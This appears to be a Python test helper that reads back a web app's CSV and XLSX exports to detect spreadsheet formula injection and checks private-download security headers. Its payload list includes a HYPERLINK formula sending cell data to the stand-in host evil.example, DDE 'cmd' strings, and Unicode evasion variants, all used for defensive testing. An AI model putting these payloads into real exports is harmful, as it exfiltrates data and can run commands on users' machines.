"""What a spreadsheet could run as a formula, and reading back the CSV and XLSX exports to look for it."""

import csv
import io
import unicodedata

import openpyxl

# Each way a typed value can start a formula (OWASP's CSV injection list and the forms that slip past a naive
# first-character check: full-width signs, a leading blank, a zero-width space).
FORMULA_FORMS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000+1+1",
    "\u200b=1+1",
    "\ufeff@SUM(1)",
]
FORMULA_SIGNS = "=+-@"
LEADING_TRIGGERS = "\t\r\n"


def is_blank(character):
    return character.isspace() or unicodedata.category(character) in ("Cc", "Cf")


def opens_as_formula(value):
    """True when a spreadsheet could take `value` for a formula: a formula sign first, after any blanks, in
    any width, or a leading tab or line break."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in LEADING_TRIGGERS:
        return True
    first = next((character for character in value if not is_blank(character)), "")
    return bool(first) and unicodedata.normalize("NFKC", first)[0] in FORMULA_SIGNS


def csv_cells(response):
    content = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]


def xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def export_values(response, spreadsheet_format):
    """(every cell's value, the coordinates of the XLSX cells stored as formulas)."""
    if spreadsheet_format == "csv":
        return csv_cells(response), []
    cells = xlsx_cells(response)
    return [cell.value for cell in cells], [cell.coordinate for cell in cells if cell.data_type == "f"]


def formula_values(values):
    return [value for value in values if opens_as_formula(value)]


PRIVATE_DOWNLOAD_HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "Content-Security-Policy": "default-src 'none'; sandbox",
    "Cross-Origin-Resource-Policy": "same-origin",
    "Referrer-Policy": "no-referrer",
}
# The admin may add its own never-cache directives beside these.
PRIVATE_CACHE_DIRECTIVES = {"private", "no-store"}


def download_header_faults(response):
    """What a private download lacks: a header missing or different, caching allowed, or shown inline."""
    faults = [
        (name, response.get(name))
        for name, value in PRIVATE_DOWNLOAD_HEADERS.items()
        if response.get(name) != value
    ]
    directives = {directive.strip() for directive in response.get("Cache-Control", "").split(",")}
    if not directives >= PRIVATE_CACHE_DIRECTIVES:
        faults.append(("Cache-Control", response.get("Cache-Control")))
    if not response.get("Content-Disposition", "").startswith("attachment;"):
        faults.append(("Content-Disposition", response.get("Content-Disposition")))
    return faults
